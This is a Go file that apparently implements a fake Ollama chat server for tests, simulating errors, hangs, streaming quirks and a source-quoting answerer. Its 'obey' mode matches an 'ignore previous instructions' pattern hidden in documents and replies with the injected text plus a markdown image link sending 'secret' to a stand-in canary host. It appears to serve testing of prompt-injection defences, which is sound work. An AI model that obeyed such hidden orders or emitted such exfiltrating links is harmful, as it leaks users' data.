package fakeollama

import (
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"time"

	"github.com/ollama/ollama/api"
)

func (s *Server) chat(w http.ResponseWriter, r *http.Request) {
	var req api.ChatRequest
	if !read(w, r, &req) {
		return
	}
	m, ok := s.find(req.Model)
	if !ok {
		missing(w, req.Model)
		return
	}
	if m.Dims > 0 {
		fail(w, http.StatusBadRequest, fmt.Sprintf("%q does not support chat", req.Model))
		return
	}
	if len(req.Messages) == 0 {
		s.hold(w, m, req)
		return
	}
	b := s.now()
	s.mu.Lock()
	s.lastChat = req
	s.mu.Unlock()
	finished := false
	defer func() {
		s.mu.Lock()
		defer s.mu.Unlock()
		if finished {
			s.counts.ChatsFinished++
		} else if r.Context().Err() != nil {
			s.counts.ChatsCancelled++
		}
	}()
	prompt := m.count(req)
	if b.Context > 0 {
		req.Options["num_ctx"] = float64(b.Context)
	}
	context := s.load(m, req.Options, req.KeepAlive)
	strict := req.Truncate != nil && !*req.Truncate && b.Context == 0
	if b.Context > 0 {
		prompt = min(prompt, context)
	}
	switch {
	case b.Chat == "hang":
		<-r.Context().Done()
		return
	case b.Chat == "500":
		fail(w, http.StatusInternalServerError, "llama runner process has terminated: exit status 2")
		return
	case b.Chat == "oom":
		fail(w, http.StatusInternalServerError, "model requires more system memory (6.1 GiB) than is available (2.0 GiB)")
		return
	case b.Chat == "toolong", strict && prompt > context:
		fail(w, http.StatusBadRequest, "the input length exceeds the context length")
		return
	}
	out := stream(w)
	send := func(msg api.Message) {
		msg.Role = "assistant"
		out.send(api.ChatResponse{Model: req.Model, CreatedAt: time.Now().UTC(), Message: msg})
	}
	if b.Chat == "empty" {
		w.WriteHeader(http.StatusOK)
		finished = true
		return
	}
	if b.Chat == "longline" {
		w.Write([]byte(`{"model":"m","message":{"role":"assistant","content":"` + strings.Repeat("x", 2<<20) + `"},"done":false}` + "\n"))
	}
	start := time.Now()
	words := pieces(beforeStop(answer(req.Messages, b), req.Options["stop"]))
	if quiet := req.Think != nil && !req.Think.Bool() && m.Obeys; b.Thinking != "" && !quiet {
		if b.ThinkTags {
			words = append(thirds("<think>"+b.Thinking+"</think>\n\n"), words...)
		} else {
			for _, word := range pieces(b.Thinking) {
				if !pause(r, b.WordDelay) {
					return
				}
				send(api.Message{Thinking: word})
			}
		}
	}
	limit := len(words)
	if n, ok := req.Options["num_predict"].(float64); ok && n > 0 {
		limit = min(limit, int(n))
	}
	for i := 0; ; i++ {
		if i == 2 || i == limit {
			switch b.Chat {
			case "error":
				out.send(map[string]string{"error": "an error was encountered while running the model: CUDA error"})
				finished = true
				return
			case "cut":
				w.Write([]byte(`{"model":"m","message":{"role":"assistant","content":"bro`))
				out.flush()
				panic(http.ErrAbortHandler)
			case "unfinished":
				finished = true
				return
			case "stall":
				<-r.Context().Done()
				return
			}
		}
		word := "word "
		if i < limit {
			word = words[i]
		} else if b.Chat != "endless" {
			break
		}
		if !pause(r, b.WordDelay) {
			return
		}
		send(api.Message{Content: word})
	}
	reason := "stop"
	if limit < len(words) {
		reason = "length"
	}
	out.send(api.ChatResponse{
		Model: req.Model, CreatedAt: time.Now().UTC(), Message: api.Message{Role: "assistant"},
		Done: true, DoneReason: reason,
		Metrics: api.Metrics{
			TotalDuration: time.Since(start) + s.loadTook(m) + 2*time.Millisecond, LoadDuration: s.loadTook(m),
			PromptEvalCount: prompt, PromptEvalDuration: 2 * time.Millisecond,
			EvalCount: limit, EvalDuration: time.Since(start) + time.Microsecond,
		},
	})
	finished = true
}

// hold answers a request without messages: it loads the model, or with a
// keep-alive of 0 lets it go.
func (s *Server) hold(w http.ResponseWriter, m Model, req api.ChatRequest) {
	s.load(m, req.Options, req.KeepAlive)
	reason := "load"
	if req.KeepAlive != nil && req.KeepAlive.Duration == 0 {
		reason = "unload"
	}
	reply(w, http.StatusOK, api.ChatResponse{
		Model: req.Model, CreatedAt: time.Now().UTC(), Message: api.Message{Role: "assistant"}, Done: true, DoneReason: reason,
	})
}

// beforeStop is the text up to the first of the stop strings.
func beforeStop(text string, stops any) string {
	list, _ := stops.([]any)
	for _, stop := range list {
		if s, ok := stop.(string); ok && s != "" {
			text, _, _ = strings.Cut(text, s)
		}
	}
	return text
}

// thirds cuts a text every three characters, so that tags fall apart.
func thirds(text string) []string {
	var out []string
	for c := range slices.Chunk([]rune(text), 3) {
		out = append(out, string(c))
	}
	return out
}

// pieces cuts a text into words that keep the space after them.
func pieces(text string) []string {
	var out []string
	for _, p := range strings.SplitAfter(text, " ") {
		if p != "" {
			out = append(out, p)
		}
	}
	return out
}

// answer is what the fake says to the messages.
func answer(messages []api.Message, b Behaviour) string {
	if b.Reply != "" {
		return b.Reply
	}
	var all strings.Builder
	var last string
	for _, m := range messages {
		all.WriteString(m.Content + "\n")
		if m.Role == "user" {
			last = m.Content
		}
	}
	if b.Chat == "obey" {
		if order := instruction.FindStringSubmatch(all.String()); order != nil {
			return strings.TrimSpace(order[1]) + " ![x](http://canary.invalid/?q=secret) [99]"
		}
	}
	return Echo(all.String(), question(last))
}

var (
	// instruction is an order that hides in a document: what follows it is
	// what an obedient model says.
	instruction = regexp.MustCompile(`(?i)ignore (?:all |any |the )*(?:previous|prior|above|other)[^.:\n]*[.:]?\s*([^\n]+)`)
	// sourceMark starts a numbered source at the beginning of a line: "[3]",
	// "Source 3", "<source id=3 …>", "### 3.".
	sourceMark = regexp.MustCompile(`(?im)^[ \t>#*-]*(?:\[(\d{1,3})\]|<?/?source[^\n\d]{0,12}(\d{1,3})\b:?|(\d{1,3})\. )`)
	sentence   = regexp.MustCompile(`[^.!?\n]+[.!?]?`)
	marker     = regexp.MustCompile(`\[\d{1,3}\]|<[^>\n]*>`)
)

// question is the last line of the message that asks something, or its last
// line that is not empty.
func question(message string) string {
	var line string
	for l := range strings.Lines(message) {
		l = strings.TrimSpace(l)
		if strings.Contains(l, "?") || l != "" && !strings.Contains(line, "?") {
			line = l
		}
	}
	if _, after, ok := strings.Cut(line, "uestion:"); ok {
		line = after
	}
	return strings.TrimSpace(line)
}

// Echo returns the sentence of the prompt's numbered sources that shares most
// words with the question, and its marker, or "I don't know." when none does.
func Echo(prompt, question string) string {
	want := map[string]bool{}
	for _, w := range words(question) {
		if !common[w] {
			want[w] = true
		}
	}
	best, mark, most := "", "", 0.0
	marks := sourceMark.FindAllStringSubmatchIndex(prompt, -1)
	for i, at := range marks {
		end := len(prompt)
		if i+1 < len(marks) {
			end = marks[i+1][0]
		}
		var number string
		for g := 2; g < len(at); g += 2 {
			if at[g] >= 0 {
				number = prompt[at[g]:at[g+1]]
			}
		}
		for _, text := range sentence.FindAllString(prompt[at[1]:end], -1) {
			text = strings.TrimSpace(marker.ReplaceAllString(text, ""))
			if text == "" || strings.HasSuffix(text, "?") || strings.TrimSpace(text) == question {
				continue
			}
			score, seen := 0.0, map[string]bool{}
			for _, w := range words(text) {
				if want[w] && !seen[w] {
					score++
					seen[w] = true
				}
			}
			score -= 0.001 * float64(len(text)) // of equals, the shorter
			if score > most {
				best, mark, most = text, number, score
			}
		}
	}
	if best == "" {
		return "I don't know."
	}
	body, stop := strings.TrimRight(best, ".!"), "."
	return body + " [" + mark + "]" + stop
}
